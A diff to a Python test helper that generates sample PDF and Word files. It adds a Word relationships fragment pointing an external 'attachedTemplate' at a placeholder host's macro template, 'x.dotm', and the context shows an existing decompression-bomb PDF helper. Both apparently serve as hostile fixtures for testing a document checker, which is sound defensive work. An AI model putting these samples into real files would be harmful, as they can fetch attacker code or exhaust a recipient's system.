@@ -3,7 +3,7 @@
 import io
 import zipfile
 import zlib
-from collections.abc import Callable, Sequence
+from collections.abc import Callable, Mapping, Sequence
 
 import pikepdf
 from PIL import Image
@@ -11,6 +11,11 @@ from PIL import Image
 from tests.photos.pictures import saved
 
 PAGE = (612, 792)
+#: The part of a Word document that says where its template is fetched from.
+OUTSIDE = (
+    b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/attachedTemplate" '
+    b'Target="https://maplehollow.example/x.dotm" TargetMode="External"/></Relationships>'
+)
 
 
 def pdf(*pages: str, change: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
@@ -134,7 +139,7 @@ def bomb(mebibytes: int = 2_000) -> bytes:
     return pdf("", change=change, compress_streams=False)
 
 
-def word(text: str = "Ana Ortega", **parts: bytes) -> bytes:
+def word(text: str = "Ana Ortega", parts: Mapping[str, bytes] | None = None) -> bytes:
     """A Word document of one paragraph, with further parts by path."""
     kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
     body = f"<w:document><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
@@ -142,7 +147,7 @@ def word(text: str = "Ana Ortega", **parts: bytes) -> bytes:
     files = {
         "[Content_Types].xml": types.encode(),
         "word/document.xml": body.encode(),
-        **parts,
+        **(parts or {}),
     }
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
